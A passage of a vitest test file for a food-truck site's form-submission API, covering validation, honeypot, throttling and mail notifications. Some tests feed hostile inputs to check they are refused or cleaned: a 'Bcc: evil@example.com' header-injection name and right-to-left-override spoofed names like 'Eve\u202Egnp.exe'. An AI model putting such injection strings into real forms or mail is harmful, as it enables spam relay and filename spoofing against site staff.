import { and, count, eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { createMemoryAttemptStore } from "../src/auth/attempt-store.ts";
import { domainOptions, submissions, userDomains, users } from "../src/db/schema.ts";
import { csvCell, exportFileName } from "../src/features/submissions/export-submissions.ts";
import { notifySubmission, submissionMail } from "../src/features/submissions/notify-submission.ts";
import {
  createSubmissionThrottles,
  throttledAddress,
} from "../src/features/submissions/submission-throttles.ts";
import type { MailMessage } from "../src/mail/mailer.ts";
import { uniqueWord } from "./content-fixtures.ts";
import { createUser, quietStaff } from "./fixtures.ts";
import { ADMIN, call, createTestApp, EDITOR, eventually, login } from "./helpers.ts";

const { app, database, outbox } = await createTestApp({ LOGIN_MAX_PER_IP: "1000" });
const db = database.db;
// Staff mails (issue 38) are notifications.test.ts's concern.
await quietStaff(db);

const LOCAL = 1;
const CATERING = 2;
const UNAUTHORIZED = { message: "Unauthorized." };
const FORBIDDEN = { message: "Forbidden." };
const NOT_FOUND = { message: "Not found." };
const TOO_MANY = { message: "Too many requests." };
const DEFAULT_FROM = "Food Truck Directory <no-reply@localhost>";

// Callers of domain 1 (localhost) in each role, and of domain 2 (catering.localhost).
const superAdmin = (await login(app, ADMIN)).access_token;
const editor = (await login(app, EDITOR)).access_token;
await createUser(db, { email: "subs-site-admin@example.com", roleId: 2, domainIds: [LOCAL] });
const siteAdmin = (await login(app, "subs-site-admin@example.com")).access_token;
await createUser(db, { email: "subs-site-admin-b@example.com", roleId: 2, domainIds: [CATERING] });
const siteAdminB = (
  await login(app, "subs-site-admin-b@example.com", { host: "catering.localhost" })
).access_token;

const readers = [
  { role: "super admin", token: superAdmin },
  { role: "site admin", token: siteAdmin },
  { role: "editor", token: editor },
];

/** Each public submission comes from its own IP unless told, so throttling stays out of the way. */
let ipCounter = 0;
const freshIp = () => {
  ipCounter += 1;
  return `10.20.${Math.floor(ipCounter / 250)}.${(ipCounter % 250) + 1}`;
};

async function submit(
  body: unknown,
  options: { host?: string; ip?: string; target?: typeof app } = {},
) {
  const res = await (options.target ?? app).inject({
    method: "POST",
    url: "/api/submissions",
    remoteAddress: options.ip ?? freshIp(),
    headers: {
      host: `api.${options.host ?? "localhost"}:3000`,
      "content-type": "application/json",
    },
    payload: JSON.stringify(body),
  });
  return { status: res.statusCode, body: res.json(), headers: res.headers };
}

const valid = (overrides: Record<string, unknown> = {}) => ({
  form: "catering",
  name: `Visitor ${uniqueWord()}`,
  email: "visitor@example.com",
  phone: "+1 (555) 010-2030",
  message: "Lunch for the office, please.",
  fields: { guests: "40", event_date: "2030-05-01" },
  ...overrides,
});

type Row = typeof submissions.$inferInsert;

/** A submission made directly in the database (for reads, deletes and other domains). */
async function insertSubmission(domainId: number, values: Partial<Row> = {}) {
  const [row] = await db
    .insert(submissions)
    .values({
      domain_id: domainId,
      form: "contact",
      name: `Row ${uniqueWord()}`,
      email: "row@example.com",
      ...values,
    })
    .returning();
  return row;
}

const rowsNamed = (name: string) => db.select().from(submissions).where(eq(submissions.name, name));

async function countOf(domainId: number) {
  const [{ n }] = await db
    .select({ n: count() })
    .from(submissions)
    .where(eq(submissions.domain_id, domainId));
  return n;
}

async function setOption(domainId: number, name: string, value: string) {
  await db
    .update(domainOptions)
    .set({ value })
    .where(and(eq(domainOptions.domain_id, domainId), eq(domainOptions.name, name)));
}

/**
 * RFC 4180 reader, to check the export round-trips; `separator` `;` reads the file as Excel does
 * in most European locales. Like spreadsheets, a quote opens or closes quoting anywhere.
 */
function parseCsv(text: string, separator: "," | ";" = ","): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

async function exportCsv(query: string, token = superAdmin, host = "localhost") {
  const res = await app.inject({
    method: "GET",
    url: `/api/submissions/export${query}`,
    headers: { host: `api.${host}:3000`, authorization: `Bearer ${token}` },
  });
  return res;
}

describe("POST /api/submissions", () => {
  it("stores a valid submission of the host's domain and answers 201 with what it received", async () => {
    const name = `Jane ${uniqueWord()}`;
    const before = await countOf(CATERING);
    const res = await submit({
      form: "catering",
      name: `  ${name}  `,
      email: " Jane.Doe@Example.com ",
      phone: " +1 (555) 010-2030 ",
      message: "  Lunch for 40.  ",
      fields: { guests: 40, vegan: true, event_date: " 2030-05-01 " },
    });
    expect(res.status).toBe(201);
    // No id (nor held): see submissionReceiptSchema and the honeypot test.
    expect(res.body).toEqual({
      data: {
        form: "catering",
        name,
        email: "jane.doe@example.com",
        phone: "+1 (555) 010-2030",
        message: "Lunch for 40.",
        fields: { guests: "40", vegan: "true", event_date: "2030-05-01" },
        created_at: expect.any(String),
      },
    });
    expect(new Date(res.body.data.created_at).toISOString()).toBe(res.body.data.created_at);
    const [row] = await rowsNamed(name);
    expect(row.domain_id).toBe(LOCAL);
    expect(row.held).toBe(false);
    expect(await countOf(CATERING)).toBe(before);

    const detail = await call(app, "GET", `/api/submissions/${row.id}`, { token: editor });
    expect(detail.body).toEqual({ data: { ...res.body.data, id: row.id, held: false } });
  });

  it("takes phone, message and fields as optional", async () => {
    const name = `Min ${uniqueWord()}`;
    const res = await submit({ form: "contact", name, email: "min@example.com" });
    expect(res.status).toBe(201);
    expect(res.body.data).toMatchObject({ phone: "", message: "", fields: {} });
    expect(await rowsNamed(name)).toHaveLength(1);
  });

  it("refuses bad input with 422 naming each bad field, and stores nothing", async () => {
    const before = await countOf(LOCAL);
    const res = await submit({
      form: "party",
      name: "   ",
      email: "not-an-email",
      phone: "call me maybe",
      message: "x".repeat(5001),
      fields: { "Bad Key": "x" },
    });
    expect(res.status).toBe(422);
    expect(res.body.errors).toEqual({
      form: ["The selected form is invalid."],
      name: ["The name field is required."],
      email: ["The email must be a valid email address."],
      phone: ["The phone may only contain digits, spaces and + ( ) - . /"],
      message: ["The message may not be greater than 5000 characters."],
      fields: [expect.stringMatching(/^Field names must start with a lowercase letter/)],
    });
    expect(res.body.message).toBe("The selected form is invalid.");

    const missing = await submit({});
    expect(missing.status).toBe(422);
    expect(missing.body.errors).toEqual({
      form: ["The selected form is invalid."],
      name: ["The name field is required."],
      email: ["The email field is required."],
    });

    const tooLong = await submit({
      form: "join",
      name: "n".repeat(201),
      email: `${"e".repeat(250)}@example.com`,
      phone: "1".repeat(51),
      fields: { note: "v".repeat(1001), ok: "fine" },
    });
    expect(tooLong.status).toBe(422);
    expect(tooLong.body.errors).toEqual({
      name: ["The name may not be greater than 200 characters."],
      email: ["The email may not be greater than 254 characters."],
      phone: ["The phone may not be greater than 50 characters."],
      "fields.note": ["The note may not be greater than 1000 characters."],
    });

    const manyFields = Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`f${i}`, "x"]));
    const many = await submit(valid({ fields: manyFields }));
    expect(many.status).toBe(422);
    expect(many.body.errors).toEqual({
      fields: ["The fields may not have more than 20 entries."],
    });

    const nested = await submit(valid({ fields: { guests: { count: 4 } } }));
    expect(nested.status).toBe(422);
    expect(Object.keys(nested.body.errors)).toEqual(["fields.guests"]);

    const longKey = await submit(valid({ fields: { [`a${"b".repeat(40)}`]: "x" } }));
    expect(longKey.status).toBe(422);
    expect(Object.keys(longKey.body.errors)).toEqual(["fields"]);

    const notJson = await app.inject({
      method: "POST",
      url: "/api/submissions",
      remoteAddress: freshIp(),
      headers: { host: "api.localhost", "content-type": "application/json" },
      payload: "{nope",
    });
    expect(notJson.statusCode).toBe(400);
    expect(notJson.json()).toEqual({ message: "The request body is not valid JSON." });

    expect(await countOf(LOCAL)).toBe(before);
  });

  it("refuses NUL characters with 422 naming the field, and stores nothing", async () => {
    const before = await countOf(LOCAL);
    for (const [body, field] of [
      [valid({ name: "Jane\u0000Doe" }), "name"],
      [valid({ message: "hi\u0000" }), "message"],
      [valid({ fields: { note: "a\u0000b" } }), "fields.note"],
      [valid({ fields: { "no\u0000te": "x" } }), "fields"],
    ] as const) {
      const res = await submit(body);
      expect(res.status, field).toBe(422);
      expect(res.body.errors[field]?.[0], field).toMatch(/NUL/);
    }
    expect(await countOf(LOCAL)).toBe(before);
  });

  it("refuses control and invisible formatting characters with 422 naming the field", async () => {
    const before = await countOf(LOCAL);
    const message = (label: string) =>
      `The ${label} may not contain control or invisible formatting characters.`;
    for (const [body, field, label] of [
      [valid({ name: "Eve\u202Egnp.exe" }), "name", "name"],
      [valid({ name: "Eve\u2066x\u2069" }), "name", "name"],
      [valid({ name: "Ad\u200Bmin" }), "name", "name"],
      [valid({ name: "Jane\nDoe" }), "name", "name"],
      [valid({ name: "Jane\u0007" }), "name", "name"],
      [valid({ name: "Jane\u0085Doe" }), "name", "name"],
      [valid({ email: "eve\u202E@example.com" }), "email", "email"],
      [valid({ phone: "555\u200E0100" }), "phone", "phone"],
      [valid({ message: "Hello \u202Etxt.exe" }), "message", "message"],
      [valid({ message: "Soft\u00ADhyphen" }), "message", "message"],
      [valid({ message: "bell\u0007" }), "message", "message"],
      [valid({ message: "line\u2028separator" }), "message", "message"],
      [valid({ fields: { event_date: "2030\u202E" } }), "fields.event_date", "event date"],
      [valid({ fields: { note: "two\nlines" } }), "fields.note", "note"],
      [valid({ fields: { note: "b\uFEFFom" } }), "fields.note", "note"],
    ] as const) {
      const res = await submit(body);
      expect(res.status, JSON.stringify(body)).toBe(422);
      expect(res.body.errors[field], JSON.stringify(body)).toEqual([message(label)]);
    }
    // A message keeps its line breaks and tabs; letters of every script stay welcome.
    const name = `Zoë Ødegård 山田 ${uniqueWord()}`;
    const ok = await submit(valid({ name, message: "Line one\r\nline two\n\tindented" }));
    expect(ok.status).toBe(201);
    expect(ok.body.data.message).toBe("Line one\r\nline two\n\tindented");
    expect(await countOf(LOCAL)).toBe(before + 1);
  });

  it("answers a filled honeypot like a real submission, storing and mailing nothing", async () => {
    const name = `Bot ${uniqueWord()}`;
    const before = await countOf(LOCAL);
    const mailsBefore = outbox.length;
    const bot = await submit(valid({ name, website: "https://spam.example" }));
    expect(bot.status).toBe(201);
    expect(bot.body).toEqual({
      data: {
        form: "catering",
        name,
        email: "visitor@example.com",
        phone: "+1 (555) 010-2030",
        message: "Lunch for the office, please.",
        fields: { guests: "40", event_date: "2030-05-01" },
        created_at: expect.any(String),
      },
    });
    // A real submission right after: its mail arrives, the bot's never does.
    const human = await submit(valid({ website: "" }));
    expect(human.status).toBe(201);
    await eventually(() =>
      outbox.slice(mailsBefore).some((m) => m.subject.includes(human.body.data.name))
        ? true
        : undefined,
    );
    expect(outbox.slice(mailsBefore).some((m) => m.subject.includes(name))).toBe(false);
    expect(await rowsNamed(name)).toHaveLength(0);
    expect(await countOf(LOCAL)).toBe(before + 1);
    // Nothing tells the two apart: the same keys, no id from the table's sequence to compare
    // (the former answer, max(id) + 1, came back again on the next real submission).
    expect(Object.keys(bot.body.data).sort()).toEqual(Object.keys(human.body.data).sort());
    expect(bot.body.data).not.toHaveProperty("id");
    expect(human.body.data).not.toHaveProperty("id");
    // No value of the answer is the stored row's id (a substring test also matched the id's
    // digits inside created_at, e.g. "08:28", whenever the clock showed them).
    const rowId = (await rowsNamed(human.body.data.name))[0].id;
    const values = Object.values(human.body.data as Record<string, unknown>);
    expect(values).not.toContain(rowId);
    expect(values).not.toContain(String(rowId));
    expect(bot.headers["content-type"]).toBe(human.headers["content-type"]);
  });

  it("throttles 5 submissions per IP per 10 minutes and domain with 429", async () => {
    const ip = "198.51.100.77";
    for (let i = 0; i < 5; i++) {
      expect((await submit(valid(), { ip })).status).toBe(201);
    }
    const name = `Sixth ${uniqueWord()}`;
    const blocked = await submit(valid({ name }), { ip });
    expect(blocked.status).toBe(429);
    expect(blocked.body).toEqual(TOO_MANY);
    expect(Number(blocked.headers["retry-after"])).toBeGreaterThan(0);
    expect(Number(blocked.headers["retry-after"])).toBeLessThanOrEqual(600);
    expect(await rowsNamed(name)).toHaveLength(0);

    // Another IP, and the same IP on another domain, are counted apart.
    expect((await submit(valid())).status).toBe(201);
    expect((await submit(valid(), { ip, host: "catering.localhost" })).status).toBe(201);
  });

  it("counts honeypot submissions against the IP too", async () => {
    const ip = "198.51.100.78";
    for (let i = 0; i < 5; i++) {
      expect((await submit(valid({ website: "x" }), { ip })).status).toBe(201);
    }
    expect((await submit(valid(), { ip })).status).toBe(429);
    expect((await submit(valid({ website: "x" }), { ip })).status).toBe(429);
  });

  it("answers 404 Domain not found. on an unknown host", async () => {
    const name = `Lost ${uniqueWord()}`;
    const res = await submit(valid({ name }), { host: "unknown.example" });
    expect(res.status).toBe(404);
    expect(res.body).toEqual({ message: "Domain not found." });
    expect(await rowsNamed(name)).toHaveLength(0);
  });
});

describe("per-domain throttling", () => {
  const ALERT_SUBJECT = "Submissions on localhost are being held for review";

  it("never locks a new visitor out: past 50 an hour submissions are held, one alert goes out", async () => {
    // A fresh app: the domain's hour starts empty.
    const fresh = await createTestApp();
    const freshDb = fresh.database.db;
    await createUser(freshDb, { email: "cap-admin@example.com", roleId: 2, domainIds: [LOCAL] });
    await createUser(freshDb, { email: "cap-editor@example.com", roleId: 3, domainIds: [LOCAL] });
    await quietStaff(freshDb);
    const admins = (
      await freshDb
        .select({ email: users.email })
        .from(userDomains)
        .innerJoin(users, eq(users.id, userDomains.user_id))
        .where(and(eq(userDomains.domain_id, LOCAL), eq(userDomains.role_id, 2)))
    ).map((r) => r.email);
    expect(admins).toContain("cap-admin@example.com");

    // Ten addresses send 5 each: the domain's 50.
    const flood = `Flood ${uniqueWord()}`;
    for (let i = 0; i < 50; i++) {
      const ip = `192.0.2.${Math.floor(i / 5)}`;
      const res = await submit(valid({ name: `${flood} ${i}` }), { target: fresh.app, ip });
      expect(res.status, `submission ${i + 1}`).toBe(201);
    }
    // A new visitor is still taken (was: 429 for the rest of the hour), held for review.
    const name = `Newcomer ${uniqueWord()}`;
    const newcomer = await submit(valid({ name }), { target: fresh.app, ip: "192.0.2.200" });
    expect(newcomer.status).toBe(201);
    expect(newcomer.body.data).toEqual(expect.objectContaining({ name }));
    expect(newcomer.body.data).not.toHaveProperty("held");
    const [row] = await freshDb.select().from(submissions).where(eq(submissions.name, name));
    expect(row.held).toBe(true);
    // More past the cap: taken and held too, from an IPv6 visitor as well.
    const later = `Later ${uniqueWord()}`;
    for (const ip of ["192.0.2.201", "2001:db8:5::1"]) {
      const res = await submit(valid({ name: `${later} ${ip}` }), { target: fresh.app, ip });
      expect(res.status, ip).toBe(201);
    }

    // The per-address limit still answers 429.
    for (let i = 0; i < 4; i++) {
      expect((await submit(valid(), { target: fresh.app, ip: "192.0.2.200" })).status).toBe(201);
    }
    const blocked = await submit(valid(), { target: fresh.app, ip: "192.0.2.200" });
    expect(blocked.status).toBe(429);
    expect(blocked.body).toEqual(TOO_MANY);

    // The first 50 were mailed one by one; none of the held ones is. The site admins (not the
    // editor) got exactly one alert each, for the whole window.
    await eventually(() =>
      fresh.outbox.filter((m) => m.subject.includes(flood)).length === 50 ? true : undefined,
    );
    const alerts = await eventually(() => {
      const sent = fresh.outbox.filter((m) => m.subject === ALERT_SUBJECT);
      return sent.length >= admins.length ? sent : undefined;
    });
    await new Promise((r) => setTimeout(r, 100));
    expect(fresh.outbox.filter((m) => m.subject === ALERT_SUBJECT)).toHaveLength(admins.length);
    expect(alerts.map((m) => m.to).sort()).toEqual([...admins].sort());
    expect(alerts.map((m) => m.to)).not.toContain("cap-editor@example.com");
    expect(alerts[0].from).toBe("no-reply@bayfoodtrucks.example");
    expect(alerts[0].text).toContain("Held");
    expect(fresh.outbox.some((m) => m.subject.includes(name) || m.subject.includes(later))).toBe(
      false,
    );
    const [held] = await freshDb.select().from(submissions).where(eq(submissions.name, name));
    expect(held.notified_at).toBeNull();

    // Staff see them: `held` on each item, and the held filter.
    const token = (await login(fresh.app, ADMIN)).access_token;
    const heldList = await call(fresh.app, "GET", "/api/submissions?held=true&limit=100", {
      token,
    });
    expect(heldList.status).toBe(200);
    expect(heldList.body.data.every((s: { held: boolean }) => s.held)).toBe(true);
    expect(heldList.body.data.map((s: { name: string }) => s.name)).toContain(name);
    expect(heldList.body.meta.total).toBe(7);
    const notHeld = await call(fresh.app, "GET", `/api/submissions?held=false&search=${flood}`, {
      token,
    });
    expect(notHeld.body.meta.total).toBe(50);
    expect(notHeld.body.data.every((s: { held: boolean }) => !s.held)).toBe(true);
    const detail = await call(fresh.app, "GET", `/api/submissions/${held.id}`, { token });
    expect(detail.body.data.held).toBe(true);
    const bad = await call(fresh.app, "GET", "/api/submissions?held=maybe", { token });
    expect(bad.status).toBe(422);
    expect(bad.body.errors).toHaveProperty("held");

    // Another domain has its own hour: mailed as usual, not held.
    const otherName = `Other ${uniqueWord()}`;
    const other = await submit(valid({ name: otherName }), {
      target: fresh.app,
      host: "catering.localhost",
    });
    expect(other.status).toBe(201);
    const [otherRow] = await freshDb
      .select()
      .from(submissions)
      .where(eq(submissions.name, otherName));
    expect(otherRow.held).toBe(false);
  });

  it("holds past the domain's cap, alerts once a window, checks the address first (unit)", async () => {
    let now = 0;
    const throttles = createSubmissionThrottles(
      createMemoryAttemptStore(() => now),
      {
        perIp: { max: 2, windowMs: 60_000 },
        perDomain: { max: 3, windowMs: 60_000 },
      },
    );
    const ok = { held: false, alert: false };
    // Bots (not stored) and a blocked address never use up the domain's quota.
    for (let i = 0; i < 5; i++) {
      await throttles.take(7, "a", { stored: false }).catch(() => undefined);
    }
    expect(await throttles.take(7, "b", { stored: true })).toEqual(ok);
    expect(await throttles.take(7, "b", { stored: true })).toEqual(ok);
    await expect(throttles.take(7, "b", { stored: true })).rejects.toMatchObject({ status: 429 });
    expect(await throttles.take(7, "c", { stored: true })).toEqual(ok);
    expect(await throttles.take(7, "d", { stored: true })).toEqual({ held: true, alert: true });
    expect(await throttles.take(7, "e", { stored: true })).toEqual({ held: true, alert: false });
    expect(await throttles.take(7, "d", { stored: true })).toEqual({ held: true, alert: false });
    await expect(throttles.take(7, "d", { stored: true })).rejects.toMatchObject({ status: 429 });
    expect(await throttles.take(8, "d", { stored: true })).toEqual(ok);
    // A new window: taken as usual again, and a new alert when passed again.
    now += 60_000;
    for (const ip of ["f", "g", "h"]) {
      expect(await throttles.take(7, ip, { stored: true })).toEqual(ok);
    }
    expect(await throttles.take(7, "i", { stored: true })).toEqual({ held: true, alert: true });
  });

  it("counts IPv6 addresses per /64 network (unit)", async () => {
    expect(throttledAddress("2001:db8:0:1::5")).toBe("2001:db8:0:1::/64");
    expect(throttledAddress("2001:0DB8:0000:0001:ffff:1:2:3")).toBe("2001:db8:0:1::/64");
    expect(throttledAddress("2001:db8:0:2::5")).toBe("2001:db8:0:2::/64");
    expect(throttledAddress("::ffff:192.0.2.7")).toBe("192.0.2.7");
    expect(throttledAddress("192.0.2.7")).toBe("192.0.2.7");

    const throttles = createSubmissionThrottles(createMemoryAttemptStore(), {
      perIp: { max: 2, windowMs: 60_000 },
      perDomain: { max: 100, windowMs: 60_000 },
    });
    await throttles.take(7, "2001:db8:0:1::1", { stored: true });
    await throttles.take(7, "2001:db8:0:1:a:b:c:d", { stored: true });
    await expect(
      throttles.take(7, "2001:db8:0:1:ffff:ffff:ffff:ffff", { stored: true }),
    ).rejects.toMatchObject({ status: 429 });
    // The next /64 is another subscriber.
    await throttles.take(7, "2001:db8:0:2::1", { stored: true });
  });

  it("answers 429 to the sixth submission from one IPv6 /64 through the API", async () => {
    for (let i = 1; i <= 5; i++) {
      expect((await submit(valid(), { ip: `2001:db8:77:1::${i}` })).status).toBe(201);
    }
    const blocked = await submit(valid(), { ip: "2001:db8:77:1:dead:beef:0:1" });
    expect(blocked.status).toBe(429);
    expect((await submit(valid(), { ip: "2001:db8:77:2::1" })).status).toBe(201);
  });
});

describe("notification mail", () => {
  it("goes to the domain's email from its outgoing_email, and marks the submission", async () => {
    const name = `Notify ${uniqueWord()}`;
    const res = await submit({
      form: "catering",
      name,
      email: "guest@example.com",
      phone: "555 0101",
      message: "Two trucks for a wedding.\nVegetarian options please.",
      fields: { event_date: "2030-06-01", guest_count: "120" },
    });
    expect(res.status).toBe(201);
    const mail = await eventually(() => outbox.find((m) => m.subject.includes(name)));
    expect(mail.to).toBe("hello@bayfoodtrucks.example");
    expect(mail.from).toBe("no-reply@bayfoodtrucks.example");
    expect(mail.replyTo).toBe("guest@example.com");
    expect(mail.subject).toBe(`New catering request: ${name}`);
    for (const line of [
      `Name: ${name}`,
      "Email: guest@example.com",
      "Phone: 555 0101",
      "Event date: 2030-06-01",
      "Guest count: 120",
      "Two trucks for a wedding.\nVegetarian options please.",
      `submission #${(await rowsNamed(name))[0].id}`,
    ]) {
      expect(mail.text).toContain(line);
    }
    await expect.poll(async () => (await rowsNamed(name))[0]?.notified_at ?? null).not.toBeNull();
  });

  it("names each form in the subject and keeps it on one line", async () => {
    const word = uniqueWord();
    await submit(valid({ form: "join", name: `Joiner ${word}` }));
    await submit(valid({ form: "contact", name: `Contact ${word}` }));
    const join = await eventually(() => outbox.find((m) => m.subject.includes(`Joiner ${word}`)));
    expect(join.subject).toBe(`New join request: Joiner ${word}`);
    const contact = await eventually(() =>
      outbox.find((m) => m.subject.startsWith("New contact message") && m.subject.includes(word)),
    );
    expect(contact.subject).toBe(`New contact message: Contact ${word}`);
    // A name with a line break is refused now; one stored before still mails on one line.
    const injected = `Contact\r\nBcc: evil@example.com ${word}`;
    expect((await submit(valid({ form: "contact", name: injected }))).status).toBe(422);
    const old = await insertSubmission(LOCAL, { name: injected });
    const mail = submissionMail(
      { ...old, form: "contact", created_at: old.created_at.toISOString() },
      "localhost",
    );
    expect(mail.subject).toBe(`New contact message: Contact Bcc: evil@example.com ${word}`);
    expect(mail.text).toContain(`Name: Contact Bcc: evil@example.com ${word}\n`);
  });

  it("leaves control and invisible characters of stored rows out of the mail", () => {
    const mail = submissionMail(
      {
        id: 9,
        form: "contact",
        name: "Eve\u202Egnp.exe\u200B",
        email: "eve@example.com\u2066",
        phone: "555\u200E",
        message: "Hi\u202E there\r\n\tsecond line\u0007",
        fields: { note: "a\u2067b\nc" },
        held: false,
        created_at: "2030-01-01T00:00:00.000Z",
      },
      "localhost",
    );
    expect(mail.subject).toBe("New contact message: Evegnp.exe");
    expect(mail.text).toContain("Name: Evegnp.exe\n");
    expect(mail.text).toContain("Email: eve@example.com\n");
    expect(mail.text).toContain("Phone: 555\n");
    expect(mail.text).toContain("Note: ab c\n");
    expect(mail.text).toContain("Hi there\r\n\tsecond line\n");
    expect(`${mail.subject}${mail.text}`).not.toMatch(/\p{Cf}/u);
    expect(mail.text.includes("\u0007")).toBe(false);
  });

  it("is never sent for a held submission", async () => {
    const row = await insertSubmission(LOCAL, { held: true });
    const sent: MailMessage[] = [];
    const notified = await notifySubmission(
      db,
      { id: LOCAL, host: "localhost" },
      {
        submission: { ...row, form: "contact", created_at: row.created_at.toISOString() },
        mailer: { send: async (m) => void sent.push(m) },
        defaultFrom: DEFAULT_FROM,
        log: { info: () => {}, error: () => {} } as never,
      },
    );
    expect(notified).toBe(false);
    expect(sent).toHaveLength(0);
  });

  it("is sent from MAIL_FROM when the domain has no outgoing_email", async () => {
    await setOption(CATERING, "outgoing_email", "");
    try {
      const name = `Fallback ${uniqueWord()}`;
      expect((await submit(valid({ name }), { host: "catering.localhost" })).status).toBe(201);
      const mail = await eventually(() => outbox.find((m) => m.subject.includes(name)));
      expect(mail.to).toBe("events@cateringcollective.example");
      expect(mail.from).toBe(DEFAULT_FROM);
    } finally {
      await setOption(CATERING, "outgoing_email", "no-reply@cateringcollective.example");
    }
  });

  it("is not sent when the domain has no email, and the submission stays unnotified", async () => {
    await setOption(CATERING, "email", "");
    try {
      const row = await insertSubmission(CATERING);
      const sent: MailMessage[] = [];
      const notified = await notifySubmission(
        db,
        { id: CATERING, host: "catering.localhost" },
        {
          submission: { ...row, form: "contact", created_at: row.created_at.toISOString() },
          mailer: { send: async (m) => void sent.push(m) },
          defaultFrom: DEFAULT_FROM,
          log: { info: () => {}, error: () => {} } as never,
        },
      );
      expect(notified).toBe(false);
      expect(sent).toHaveLength(0);
      expect((await rowsNamed(row.name))[0].notified_at).toBeNull();
    } finally {
      await setOption(CATERING, "email", "events@cateringcollective.example");
    }
  });

  it("logs a failed mail and never fails the request", async () => {
    const { mailer } = app.deps;
    const original = mailer.send;
    let attempts = 0;
    mailer.send = async () => {
      attempts += 1;
      throw new Error("SMTP down");
    };
    try {
      const name = `Unmailed ${uniqueWord()}`;
      const res = await submit(valid({ name }));
      expect(res.status).toBe(201);
      await eventually(() => (attempts > 0 ? true : undefined));
      expect((await rowsNamed(name))[0].notified_at).toBeNull();

      // The operation itself: logged, false, unnotified.
      const row = await insertSubmission(LOCAL);
      const errors: unknown[] = [];
      const notified = await notifySubmission(
        db,
        { id: LOCAL, host: "localhost" },
        {
          submission: { ...row, form: "contact", created_at: row.created_at.toISOString() },
          mailer,
          defaultFrom: DEFAULT_FROM,
          log: { info: () => {}, error: (...args: unknown[]) => void errors.push(args) } as never,
        },
      );
      expect(notified).toBe(false);
      expect(errors).toHaveLength(1);
      expect((await rowsNamed(row.name))[0].notified_at).toBeNull();
    } finally {
      mailer.send = original;
    }
  });
});

describe("GET /api/submissions", () => {
  const word = uniqueWord("list");
  const at = (iso: string) => new Date(iso);
  let made: Record<string, number> = {};

  it("lists the domain's submissions newest first, with filters and paging", async () => {
    const rows = {
      join: await insertSubmission(LOCAL, {
        form: "join",
        name: `Ada ${word}`,
        email: `ada.${word}@example.com`,
        message: "We have three trucks.",
        created_at: at("2020-03-01T10:00:00Z"),
      }),
      catering: await insertSubmission(LOCAL, {
        form: "catering",
        name: `Bo ${word}`,
        phone: "+1 555 0199",
        message: `Office lunch ${word}`,
        created_at: at("2020-03-02T10:00:00Z"),
      }),
      contact: await insertSubmission(LOCAL, {
        form: "contact",
        name: `Cy ${word}`,
        message: `Literally 100%_sure ${word}`,
        created_at: at("2020-03-03T10:00:00Z"),
      }),
      foreign: await insertSubmission(CATERING, {
        form: "contact",
        name: `Foreign ${word}`,
        created_at: at("2020-03-02T12:00:00Z"),
      }),
    };
    made = Object.fromEntries(Object.entries(rows).map(([k, r]) => [k, r.id]));
    const list = async (query: string, token = superAdmin) => {
      const res = await call(app, "GET", `/api/submissions?${query}`, { token });
      expect(res.status, query).toBe(200);
      return res.body as { data: { id: number }[]; meta: Record<string, number> };
    };
    const idsOf = (body: { data: { id: number }[] }) => body.data.map((r) => r.id);

    const all = await list(`search=${word}`);
    expect(idsOf(all)).toEqual([made.contact, made.catering, made.join]);
    expect(all.meta).toEqual({ total: 3, limit: 25, offset: 0 });
    expect(all.data[2]).toEqual({
      id: made.join,
      form: "join",
      name: `Ada ${word}`,
      email: `ada.${word}@example.com`,
      phone: "",
      message: "We have three trucks.",
      fields: {},
      held: false,
      created_at: "2020-03-01T10:00:00.000Z",
    });

    expect(idsOf(await list(`search=${word}&form=catering`))).toEqual([made.catering]);
    // Search looks in name, email, phone and message, case-insensitively.
    expect(idsOf(await list(`search=ADA.${word}`))).toEqual([made.join]);
    expect(idsOf(await list("search=%2B1%20555%200199"))).toContain(made.catering);
    expect(idsOf(await list(`search=office%20lunch%20${word}`))).toEqual([made.catering]);
    // LIKE wildcards match themselves.
    expect(idsOf(await list("search=100%25_sure"))).toEqual([made.contact]);
    expect(idsOf(await list(`search=${word}%25`))).toEqual([]);

    // Date range, both ends inclusive to the second.
    const range = (start: string, end: string) =>
      list(
        `search=${word}&startDate=${encodeURIComponent(start)}&endDate=${encodeURIComponent(end)}`,
      );
    expect(idsOf(await range("2020-03-01 10:00:00", "2020-03-02 10:00:00"))).toEqual([
      made.catering,
      made.join,
    ]);
    expect(idsOf(await range("2020-03-01 10:00:01", "2020-03-03 09:59:59"))).toEqual([
      made.catering,
    ]);
    expect(idsOf(await list(`search=${word}&startDate=2020-03-03%2000:00:00`))).toEqual([
      made.contact,
    ]);
    expect(idsOf(await list(`search=${word}&endDate=2020-03-01%2023:59:59`))).toEqual([made.join]);

    const page = await list(`search=${word}&limit=1&offset=1`);
    expect(idsOf(page)).toEqual([made.catering]);
    expect(page.meta).toEqual({ total: 3, limit: 1, offset: 1 });
    const past = await list(`search=${word}&limit=2&offset=5`);
    expect(past.data).toEqual([]);
    expect(past.meta.total).toBe(3);
  });

  it("never shows another domain's rows", async () => {
    const total = await countOf(LOCAL);
    const res = await call(app, "GET", "/api/submissions?limit=500", { token: superAdmin });
    expect(res.body.meta.total).toBe(total);
    const domainIds = await db
      .select({ id: submissions.id })
      .from(submissions)
      .where(eq(submissions.domain_id, CATERING));
    const foreign = new Set(domainIds.map((r) => r.id));
    expect(res.body.data.some((r: { id: number }) => foreign.has(r.id))).toBe(false);
    const search = await call(app, "GET", `/api/submissions?search=${word}`, {
      token: superAdmin,
      host: "catering.localhost",
    });
    expect(search.body.data.map((r: { id: number }) => r.id)).not.toContain(made.foreign);

    // The other domain's own team sees its row and none of domain 1's.
    const theirs = await call(app, "GET", `/api/submissions?search=${word}`, {
      token: siteAdminB,
      host: "catering.localhost",
    });
    expect(theirs.body.data.map((r: { id: number }) => r.id)).toEqual([made.foreign]);
  });

  it("refuses bad filters with 422 naming them", async () => {
    for (const [query, field] of [
      ["form=party", "form"],
      ["limit=0", "limit"],
      ["limit=501", "limit"],
      ["offset=-1", "offset"],
      ["startDate=2020-02-30%2000:00:00", "startDate"],
      ["endDate=yesterday", "endDate"],
